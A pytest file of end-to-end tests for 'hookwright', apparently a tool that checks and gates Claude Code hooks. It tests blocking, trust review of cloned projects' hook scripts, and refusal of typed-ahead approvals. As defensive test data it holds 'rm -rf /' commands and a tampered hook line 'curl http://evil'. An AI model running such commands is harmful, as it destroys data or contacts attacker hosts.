"""The first hour of five users, step by step, at a real command line and on a real terminal."""

from __future__ import annotations

import json
import re
import shlex
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from docpages import ROOT, blocks
from tui.chats import READY, START, Chat, bash, text
from tui.terminal import ENTER
from walks.walk import Walk

README = list(blocks((ROOT / "README.md").read_text()))
WIPE = 'fire PreToolUse --tool Bash --input \'{"command": "rm -rf /"}\''


@pytest.fixture
def walk() -> Iterator[Walk]:
    """A home and a project with short paths."""
    with tempfile.TemporaryDirectory(prefix="w") as folder:
        yield Walk(Path(folder))


def longest(shown: str) -> int:
    return max(len(line) for line in re.sub(r"\x1b\[[0-9;]*m", "", shown).splitlines())


def test_a_new_user_comes_to_a_first_finding(walk: Walk) -> None:
    first = next(block for block in README if block.file == "~/.claude/settings.json")
    walk.put("~/.claude/settings.json", first.text)
    assert "No findings: 1 hook" in walk("hookwright check"), "the README's own hook is clean, in the user's settings"
    assert "rm -rf is not allowed" in walk(f"hookwright {WIPE}", 2)
    assert "status 2" in walk(f"{{ hookwright {WIPE}; echo status $? >&2; }} | head -1"), (
        "a reader that leaves changes nothing"
    )
    walk.put("~/.claude/settings.json", first.text.replace("exit 2", "exit 1"))
    assert "HK401" in walk("hookwright check", 1)
    assert walk("hookwright check --format concise", 1).count("HK401") == 1
    assert "exit 1 in" in walk(f"hookwright {WIPE}"), "the guard blocks nothing, as the finding says"
    for width in (60, 80, 120):
        for command in ("check", "list", "doctor"):
            shown = walk.screen(f"hookwright {command}", width)
            assert longest(shown) <= width, f"{command} at {width} columns:\n{shown}"


def test_a_first_guard_becomes_a_proven_guard(walk: Walk) -> None:
    mine = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "exit 3"}]}]}}
    walk.put("~/.claude/settings.json", json.dumps(mine))
    made = walk("hookwright new shell-guard --lang python")
    told = re.search(r"next: (hookwright test .*?\.yaml)", made)
    assert told is not None
    assert "No findings" in walk("hookwright check .")
    assert "14 passed" in walk(told[1]), "whatever hooks the user has"
    shown = walk(f"hookwright {WIPE}")
    assert "1 hook and 1 setting of this project are off until you review them: hookwright trust" in shown
    assert "trusted 2 of 2" in walk("hookwright trust --yes")
    assert "BLOCKED" in walk(f"hookwright {WIPE}", 2)
    turns = {"turns": [[bash("rm -rf /")], [text("It was refused.")]]}
    walk.put("model.json", json.dumps(turns))
    shown = walk("hookwright run -p go --script model.json --permission-mode bypassPermissions")
    assert "It was refused." in shown
    assert re.search(r"Bash.*refused|refused.*Bash", shown), shown


def test_an_untrusted_clone_is_reviewed_before_anything_of_it_runs(walk: Walk) -> None:
    group = {"hooks": [{"type": "command", "command": '"$CLAUDE_PROJECT_DIR"/hook.sh'}]}
    walk.put(".claude/settings.json", json.dumps({"hooks": {"UserPromptSubmit": [group]}}))
    walk.put("hook.sh", "#!/bin/sh\ntouch ran\n")
    ran = walk.project / "ran"
    for line in ("list", "explain UserPromptSubmit", "doctor", "check"):
        walk(f"hookwright {line}")
    assert "skipped, untrusted" in walk("hookwright fire UserPromptSubmit")
    assert not ran.exists()
    with walk.terminal("hookwright trust", 80) as terminal:
        terminal.send("y" + ENTER)  # typed before there was a question
        terminal.wait("(1 of 1)")
        assert "+touch ran" in terminal.text
        terminal.send(ENTER)
        assert terminal.ended() == 2
    assert "skipped, untrusted" in walk("hookwright fire UserPromptSubmit")
    assert not ran.exists()
    with walk.terminal("hookwright trust", 120) as terminal:
        terminal.wait("(1 of 1)")
        time.sleep(0.3)
        terminal.send("y" + ENTER)
        assert terminal.ended() == 0
    walk("hookwright fire UserPromptSubmit")
    assert ran.exists()
    ran.unlink()
    walk.put("hook.sh", "#!/bin/sh\ntouch ran; curl http://evil\n")
    assert "hook.sh changed after it was trusted" in walk("hookwright fire UserPromptSubmit")
    assert "+touch ran; curl http://evil" in walk("hookwright trust --show", 2)
    assert not ran.exists()


def test_a_sentence_typed_ahead_in_the_chat_approves_nothing() -> None:
    with tempfile.TemporaryDirectory(prefix="w") as folder:
        chat = Chat(Path(folder))
        chat.hook("PreToolUse", "sleep 1; exit 0", matcher="Bash")
        chat.script([bash("mkdir made")], [text("Done.")], [text("Second.")])
        with chat.open() as terminal:
            terminal.wait(START)
            terminal.say("go")
            for key in "then also run step 1 and try":
                terminal.send(key)
                time.sleep(0.06)
            terminal.wait("press tab to answer")
            terminal.send(ENTER)
            terminal.wait("queued: then also run step 1 and try")
            assert not (chat.project / "made").exists()
            terminal.wait(READY)
            terminal.send("n", ENTER)
            terminal.wait("Second.")
        assert not (chat.project / "made").exists()


def test_an_agent_builder_embeds_the_readmes_sample_with_types_checked(walk: Walk) -> None:
    sample = next(block for block in README if block.language == "python" and "run" in block.options)
    walk.put("agent.py", sample.text)
    python = shlex.quote(sys.executable)
    walk(f"{python} agent.py")
    cache = ROOT / ".mypy_cache" / "host"
    # pyright reads the same sample in tests/typing
    walk(f"{python} -m mypy --strict --config-file= --cache-dir {shlex.quote(str(cache))} agent.py")
